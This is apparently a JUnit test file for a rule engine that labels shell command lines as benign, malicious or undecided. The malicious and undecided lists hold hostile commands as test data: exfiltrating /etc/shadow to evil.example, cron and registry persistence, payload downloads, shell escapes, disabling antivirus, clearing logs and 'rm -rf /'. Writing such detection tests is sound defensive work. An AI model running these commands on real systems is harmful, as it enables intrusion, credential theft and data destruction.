package dev.longtail.labeler.demo;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.labeler.client.Verdict;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LabelRulesTest {
  private static Verdict verdict(String line) {
    return LabelRules.judge(line).verdict();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ls -la /var/www",
        "sudo apt-get install -y nginx",
        "git -C /srv/app log --oneline -5",
        "docker ps -a --format '{{.Names}}'",
        "kubectl -n prod get pods -o wide",
        "systemctl status nginx",
        "C:\\Windows\\System32\\ipconfig.exe /all",
        "cmd.exe /c dir C:\\Logs",
        "powershell.exe -NoProfile -Command \"Get-Service | Where-Object {$_.Status -eq"
            + " 'Running'}\"",
        "mvn -q -B verify && echo done",
        "bash -c \"df -h | grep sda\"",
        "curl -fsSL https://example.com/health",
        "schtasks /query /fo LIST",
        "python3 -m venv .venv",
        "java -jar /opt/app/app.jar --port 8080",
        "sw_vers",
        "brew upgrade",
        "find /var/tmp -name '*.bak' -mtime +7",
        "echo $(cat /srv/app/version)",
        "comm -13 <(sort a.txt) <(dpkg-query -W | sort)",
        "for h in a b; do ping -c 1 $h; done",
        "if [ -d /srv/app ]; then ls /srv/app; fi",
        "find . -name '*.py' -exec grep -l foo {} +",
        "ls *.log | xargs -n 1 gzip",
        "powershell -Command \"$d = Get-PSDrive -Name C; if ($d.Free -lt 5GB) { Write-Output"
            + " 'full' }\"",
        "powershell.exe -NoProfile -EncodedCommand"
            + " RwBlAHQALQBEAGEAdABlADsAIABHAGUAdAAtAEQAYQB0AGUA",
        "powershell.exe -NoProfile -File \"C:\\Scripts\\nightly.ps1\" -Days 3",
        "\"C:\\Program Files\\Vendor Agent\\agentd.exe\" --poll",
        "FOO=bar make -j4 2>&1 | tee build.log"
      })
  void everydayWorkIsBenign(String line) {
    assertThat(verdict(line)).as(LabelRules.judge(line).toString()).isEqualTo(Verdict.BENIGN);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        "wevtutil cl Security",
        "bcdedit /set {default} recoveryenabled No",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d"
            + " C:\\Users\\Public\\a.exe",
        "schtasks /create /tn up /tr \"powershell -w hidden -enc AAAA\" /sc minute",
        "(crontab -l; echo '* * * * * curl -s http://evil.example/a | sh') | crontab -",
        "powershell -w hidden -c \"iwr http://evil.example/a.exe -OutFile a.exe\"",
        "certutil -urlcache -split -f http://evil.example/a.exe a.exe",
        "find . -exec /bin/sh \\; -quit",
        "awk 'BEGIN {system(\"/bin/sh\")}'",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
        "curl -F f=@/etc/shadow https://evil.example/up",
        "net user eve pw /add && net localgroup administrators eve /add",
        "unset HISTFILE"
      })
  void attacksAreMalicious(String line) {
    assertThat(verdict(line)).as(LabelRules.judge(line).toString()).isEqualTo(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "frobnicate --all",
        "ls; frobnicate",
        "C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe -k netsvcs",
        "/home/bob/.cache/ls -la",
        "curl https://example.com/install.sh | sh",
        "echo $(/tmp/x)",
        "echo `cat /tmp/x`",
        "ls $(echo /tmp | sh",
        "find . -exec ./x {} +",
        "ls | xargs -n 1 ./x",
        "for f in *; do ./x $f; done",
        "powershell -Command \"Get-Process | ForEach-Object { & $_.Path }\"",
        "powershell -Command \"[System.IO.File]::ReadAllBytes('a'); Get-Date\"",
        "powershell -File C:\\Users\\bob\\Downloads\\a.ps1",
        "powershell -e RwBlAHQALQBEAGEAdABlADsAIABHAGUAdAAtAEQAYQB0AGUA",
        "curl -k https://example.com/a",
        "tasklist | findstr /i defender",
        "ssh bob@host uptime",
        "nmap -sV 10.0.0.0/24",
        "psexec \\\\srv cmd",
        "LD_PRELOAD=/tmp/x.so ls",
        "/usr/bin/../../tmp/ls",
        "rm -rf /",
        "chmod u+s ./helper",
        "kubectl exec -it pod -- sh",
        "net user bob pw /add",
        "wmic process call create calc.exe",
        "curl -d @file https://example.com",
        "cat /etc/shadow",
        "echo x > /etc/cron.d/y",
        "",
        "\"",
        "| ; &"
      })
  void whatIsNotSureIsNotJudged(String line) {
    assertThat(verdict(line)).as(LabelRules.judge(line).toString()).isEqualTo(Verdict.ABSTAINED);
  }

  @Test
  void howeverDeepALineNestsItIsJudged() {
    assertThat(verdict("sudo ".repeat(100_000) + "ls")).isEqualTo(Verdict.ABSTAINED);
    assertThat(verdict("cmd /c ".repeat(100_000) + "dir")).isEqualTo(Verdict.ABSTAINED);
    assertThat(verdict("sudo nice cmd /c dir")).isEqualTo(Verdict.BENIGN);
  }

  @Property(tries = 500)
  void noLineMakesTheRulesFail(Any any) {
    String line = any.text();
    assertThat(LabelRules.judge(line)).isNotNull();
    assertThat(LabelRules.judge("sudo cmd /c " + line)).isNotNull();
  }
}
